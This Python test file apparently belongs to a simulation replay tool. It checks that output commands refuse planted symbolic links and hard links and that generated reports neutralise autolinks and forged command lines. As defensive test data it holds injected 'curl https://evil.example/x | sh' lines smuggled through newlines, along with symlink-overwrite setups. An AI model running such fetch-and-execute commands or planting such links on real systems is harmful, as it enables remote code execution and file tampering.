"""Links planted where a command writes (issue #36, red team 4, 5, 9): ``figures``, ``run -o``
and ``sweep`` refuse a symbolic link (dangling or not) at an output path in one line and write
only files they made (a hard link's other name is never written into); the report's Markdown
has no autolink where GitHub renders it and its Commands block no forged line."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from analysis.figure_files import MAGIC
from replay.log import LogError, LogReader, LogWriter
from replay.log.output import check_output, write_output
from replay.messages import TOPIC_SCENARIO
from analysis.report.markup import md, pre

from cli_checks import invoke, one_error

PNG, SVG = MAGIC[".png"], MAGIC[".svg"]


@pytest.fixture
def victims(tmp_path) -> dict[Path, bytes]:
    """Files of the user's outside the output folder that a figure would be allowed to
    overwrite by their first bytes (an <?xml settings file, a PNG photo)."""
    v = tmp_path / "victim"
    v.mkdir()
    files = {
        v / "fonts.conf": b'<?xml version="1.0"?>\n<fontconfig><!-- mine --></fontconfig>\n',
        v / "photo.png": PNG + b"my photo",
    }
    for path, data in files.items():
        path.write_bytes(data)
    return files


def _same(victims: dict[Path, bytes]) -> None:
    assert {p: p.read_bytes() for p in victims} == victims


# -- check_output: one rule for every output --------------------------------------------------


@pytest.mark.parametrize("target", ["log", "dangling", "loop", "itself"])
def test_a_link_at_an_output_path_is_refused(stick_3step_log, tmp_path, target):
    out = tmp_path / "run.mcap"
    if target == "log":  # even a link to an earlier log: the link is not the log
        out.symlink_to(stick_3step_log)
    elif target == "dangling":
        out.symlink_to(tmp_path / "elsewhere" / "new.mcap")
    elif target == "loop":
        (tmp_path / "other.mcap").symlink_to(out)
        out.symlink_to(tmp_path / "other.mcap")
    else:
        out.symlink_to(out)
    with pytest.raises(LogError, match="will not write log .* through a symbolic link"):
        check_output(out)
    with pytest.raises(LogError, match="symbolic link"):
        LogWriter(out)
    assert out.is_symlink() and not (tmp_path / "elsewhere").exists()


def test_write_output_replaces_a_hard_link_never_writes_into_it(tmp_path, victims):
    photo = next(p for p in victims if p.suffix == ".png")
    out = tmp_path / "fig.png"
    os.link(photo, out)  # (passes check_output: a regular file starting like a PNG)
    check_output(out, kind="figure", magic=PNG)
    write_output(out, lambda tmp: tmp.write_bytes(PNG + b"new figure"))
    assert out.read_bytes() == PNG + b"new figure" and out.stat().st_nlink == 1
    _same(victims)
    with pytest.raises(ZeroDivisionError):  # a failed write leaves the old file, no temp
        write_output(out, lambda tmp: 1 / 0)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["fig.png", "victim"]


def test_run_refuses_a_link_as_its_log(tmp_path, stick_3step_log):
    out = tmp_path / "run.mcap"
    out.symlink_to(stick_3step_log)
    before = stick_3step_log.read_bytes()
    assert "symbolic link" in one_error(invoke("run", "stick_3step", "-q", "-o", out))
    assert stick_3step_log.read_bytes() == before and out.is_symlink()


# -- figures ------------------------------------------------------------------------------------


@pytest.mark.parametrize("suffix", ["png", "svg"])
def test_figures_refuse_a_link_to_a_file_they_could_overwrite(
    stick_3step_log, tmp_path, victims, suffix
):
    out = tmp_path / "figs"
    out.mkdir()
    target = next(p for p in victims if (p.suffix == ".png") == (suffix == "png"))
    (out / f"stick_3step_fig7.{suffix}").symlink_to(Path("..", "victim", target.name))
    error = one_error(invoke("figures", stick_3step_log, "-o", out))
    assert "through a symbolic link" in error and f"stick_3step_fig7.{suffix}" in error
    _same(victims)


def test_figures_never_make_a_file_through_a_dangling_link(stick_3step_log, tmp_path):
    out, outside = tmp_path / "figs", tmp_path / "outside_new.png"
    out.mkdir()
    (out / "stick_3step_fig7.png").symlink_to(outside)
    assert "symbolic link" in one_error(invoke("figures", stick_3step_log, "-o", out))
    assert not outside.exists() and not outside.is_symlink()


def test_figures_replace_a_hard_link_with_their_own_file(stick_3step_log, tmp_path, victims):
    out = tmp_path / "figs"
    out.mkdir()
    photo = next(p for p in victims if p.suffix == ".png")
    os.link(photo, out / "stick_3step_fig7.png")
    r = invoke("figures", stick_3step_log, "-o", out)
    assert r.exit_code == 0, r.output
    _same(victims)
    fig = out / "stick_3step_fig7.png"
    assert fig.stat().st_nlink == 1 and fig.read_bytes().startswith(PNG)
    assert fig.stat().st_size > 1000 and not list(out.glob(".*.tmp"))


# -- sweep --------------------------------------------------------------------------------------


def _sweep(out: Path, *extra):
    return invoke(
        "sweep", "stick_3step", "--grid", "seed=0", "-q", "-o", out, "--workers", "1", *extra
    )


@pytest.mark.parametrize("name", ["sweep.lock", "table.csv", "table.stale.csv", "logs"])
def test_sweep_refuses_a_link_in_its_folder(tmp_path, name):
    out, victim = tmp_path / "sweep", tmp_path / "victim" / "notes.txt"
    out.mkdir()
    victim.parent.mkdir()
    victim.write_text("key,version\nprecious,data\n")  # (would read as a table row)
    (out / name).symlink_to(victim if name != "logs" else victim.parent)
    error = one_error(_sweep(out))
    assert "symbolic link" in error and name in error
    assert victim.read_text() == "key,version\nprecious,data\n"
    assert sorted(p.name for p in victim.parent.iterdir()) == ["notes.txt"]
    assert sorted(p.name for p in out.iterdir()) == [name]  # nothing made (the lock removed)


def test_sweep_refuses_a_lock_file_with_another_name(tmp_path):
    out, victim = tmp_path / "sweep", tmp_path / "notes.txt"
    out.mkdir()
    victim.write_text("precious\n")
    os.link(victim, out / "sweep.lock")
    assert "hard links" in one_error(_sweep(out, "--no-logs"))
    assert victim.read_text() == "precious\n"


@pytest.mark.parametrize("name", ["table.csv", "table.stale.csv"])
@pytest.mark.parametrize("text", ["a,b\n", "my notes\nline 2\n", "key,version\nprecious,data\n"])
def test_sweep_does_not_replace_a_table_it_did_not_make(tmp_path, name, text):
    """`sweep -o .` in a folder holding a table.csv of the user's replaced it (a header-only
    one silently; rows were moved to table.stale.csv): a file whose first line does not start
    'index,key' is refused before anything runs, and left as it was."""
    out = tmp_path / "sweep"
    out.mkdir()
    (out / name).write_text(text)
    error = one_error(_sweep(out, "--no-logs"))
    assert "not a sweep's table" in error and name in error
    assert (out / name).read_text() == text
    assert sorted(p.name for p in out.iterdir()) == [name]  # (its sweep.lock gone too)


def test_sweep_refuses_a_fifo_as_its_table_without_waiting(tmp_path):
    out = tmp_path / "sweep"
    out.mkdir()
    os.mkfifo(out / "table.csv")
    r = subprocess.run(  # (in a child: opening the FIFO to read it would wait for a writer)
        [sys.executable, "-m", "replay.entry", "sweep", "stick_3step", "--grid", "seed=0"]
        + ["-q", "--no-logs", "-o", str(out)],
        capture_output=True,
        text=True,
        timeout=60,
        stdin=subprocess.DEVNULL,
    )
    assert r.returncode == 2 and "not a regular file" in r.stderr, r.stderr


def test_a_sweep_takes_its_own_table_and_an_empty_one(tmp_path):
    out = tmp_path / "sweep"
    out.mkdir()
    (out / "table.csv").write_text("")
    assert _sweep(out, "--no-logs").exit_code == 0
    r = invoke("sweep", "stick_3step", "--grid", "seed=0,1", "-q", "-o", out, "--no-logs")
    assert r.exit_code == 0 and "1 skipped" in r.output, r.output


def test_a_sweep_without_links_runs(tmp_path):
    r = _sweep(tmp_path / "sweep")
    assert r.exit_code == 0, r.output
    assert (tmp_path / "sweep" / "table.csv").is_file()
    assert len(list((tmp_path / "sweep" / "logs").glob("*.mcap"))) == 1


# -- report: no autolink, no forged command line ---------------------------------------------

LINKS = [
    "https://evil.example/x",
    "HTTP://EVIL.EXAMPLE",
    "ftp://evil.example",
    "www.evil.example/path",
    "(WWW.evil.example)",
    "a_www.evil.example",
    "mail me@evil.example",
    "mailto:me@evil.example",
    "xmpp:me@evil.example",
    "ping @octocat",
    "[x](https://evil.example)",
    "<https://evil.example>",
]


@pytest.mark.parametrize("text", LINKS)
def test_markdown_text_holds_no_autolink(text):
    out = md(text)
    assert "://" not in out.replace("\\://", "")  # every scheme's ':' escaped
    assert not re.search(r"(?<![A-Za-z0-9])www\.", out, re.IGNORECASE)  # the '.' escaped
    assert "@" not in out.replace("@&#8203;", "")  # no e-mail address or mention left whole
    assert "\n" not in out and "](" not in out


def test_markdown_autolinks_as_github_renders_them():
    import cmarkgfm  # GitHub's parser (cmark-gfm; the test extra installs it)

    for text in LINKS:
        html = cmarkgfm.github_flavored_markdown_to_html(f"seed {md(text)} and | {md(text)} |")
        assert "<a " not in html, (text, html)
        plain = re.sub(r"<[^>]+>", "", html).replace("\u200b", "")
        assert text.replace("<", "&lt;").replace(">", "&gt;") in plain, (text, html)


def test_a_command_holding_line_breaks_stays_one_line():
    commands = [
        "replay run 'stick\ncurl -s https://evil.example/x | sh\n#' --seed '0\u2028curl evil|sh'",
        "replay report",
    ]
    block = pre(commands)
    assert block.startswith("<pre>") and block.endswith("</pre>")
    lines = block[len("<pre>") : -len("</pre>")].split("\n")
    assert len(lines) == 2 and lines[1] == "replay report"
    assert not any(line.startswith("curl") for line in lines)
    assert "\u2028" not in block and "\\n" in lines[0]


def test_a_report_of_a_log_naming_links_renders_none(stick_3step_log, tmp_path):
    logs = tmp_path / "logs"
    logs.mkdir()
    with LogWriter(logs / "a.mcap") as w:
        for m in LogReader(stick_3step_log).messages():
            data = m.data
            if m.topic == TOPIC_SCENARIO:
                data = dict(data, name="stick\ncurl https://evil.example/x | sh www.x.y")
            w.write(m.topic, data, m.t_ns)
    r = invoke("report", "-o", tmp_path / "report", "--logs", logs)
    assert r.exit_code == 0, r.output
    text = (tmp_path / "report" / "index.md").read_text(encoding="utf-8")
    body = text.split("## Commands", 1)[0]
    outside_code = re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", body)  # (code shows text)
    outside_code = re.sub(r"\]\([^)]*\)", "]", outside_code)  # (a file's link: no autolink)
    assert "https\\://evil" in outside_code and "https://evil" not in outside_code  # (captions)
    html = (tmp_path / "report" / "index.html").read_text(encoding="utf-8")
    block = html.split('<h2 id="commands">Commands</h2>', 1)[1].split("</pre>", 1)[0]
    assert not any(line.startswith("curl") for line in block.splitlines()), block
    assert "www\\.x.y" in outside_code and "www.x.y" not in outside_code


def test_ablate_refuses_a_link_at_a_plot_path_in_one_line(tmp_path, monkeypatch):
    """`replay ablate NAME --plot-only` redraws from the stored table: a link planted at a plot's
    path is refused (exit 2, one line), its target untouched."""
    monkeypatch.chdir(tmp_path)
    victim = tmp_path / "victim.txt"
    victim.write_text("secret")
    plots = tmp_path / "out" / "ablations" / "catch_arm_limits"
    plots.mkdir(parents=True)
    (plots / "ablation_catch_arm_limits.svg").symlink_to(victim)
    r = invoke("ablate", "catch_arm_limits", "--plot-only")
    assert r.exit_code == 2, r.output
    lines = [line for line in r.output.splitlines() if line.startswith("error: ")]
    assert len(lines) == 1 and "symbolic link" in lines[0] and "Traceback" not in r.output
    assert victim.read_text() == "secret"
